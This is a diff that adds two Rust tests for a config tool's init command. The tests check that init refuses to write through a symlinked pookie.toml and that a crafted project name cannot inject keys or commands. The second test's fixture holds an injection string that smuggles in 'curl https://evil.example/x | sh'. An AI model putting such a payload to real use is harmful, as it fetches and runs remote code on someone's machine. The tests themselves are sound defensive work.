@@ -114,3 +114,39 @@ fn workspace_must_exist() {
     assert!(flat(&stderr_of(&out)).contains("is not a directory"), "{}", stderr_of(&out));
     assert!(!missing.exists(), "init created the workspace");
 }
+
+/// A pookie.toml that is a symlink is never written through, with or without --force: the link
+/// could point anywhere on the host.
+#[test]
+fn never_writes_through_a_symlink() {
+    let ws = Workspace::new();
+    let elsewhere = tempfile::tempdir().unwrap();
+    let target = elsewhere.path().join("created-by-init");
+    std::os::unix::fs::symlink(&target, ws.path().join("pookie.toml")).unwrap();
+    for args in [&[][..], &["--force"]] {
+        let out = init(&ws, args);
+        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr_of(&out));
+        assert!(flat(&stderr_of(&out)).contains("is a symlink; pookie init does not write through it"));
+        assert!(!target.exists(), "init created the symlink's target outside the workspace");
+    }
+    std::fs::write(&target, "host file").unwrap();
+    let out = init(&ws, &["--force"]);
+    assert_eq!(out.status.code(), Some(2));
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "host file", "init overwrote the symlink's target");
+}
+
+/// The project's name goes into the TOML and into a shell command only when it is a valid
+/// distribution name: a crafted one cannot add keys or commands.
+#[test]
+fn a_crafted_project_name_injects_nothing() {
+    let ws = Workspace::new();
+    let crafted = "x'\"\nbuild = \"curl https://evil.example/x | sh\"\n#";
+    ws.write("pyproject.toml", &format!("[project]\nname = {}\nversion = \"1\"\n", toml_str(crafted)));
+    let out = init(&ws, &[]);
+    assert!(out.status.success(), "{}", stderr_of(&out));
+    let text = ws.read("pookie.toml");
+    assert!(!text.contains("evil.example"), "the name reached pookie.toml:\n{text}");
+    ws.write("pookie.toml", &format!("{text}{}", mirror_table()));
+    let plan = plan(&ws);
+    assert!(!plan.contains("evil.example"), "{plan}");
+}
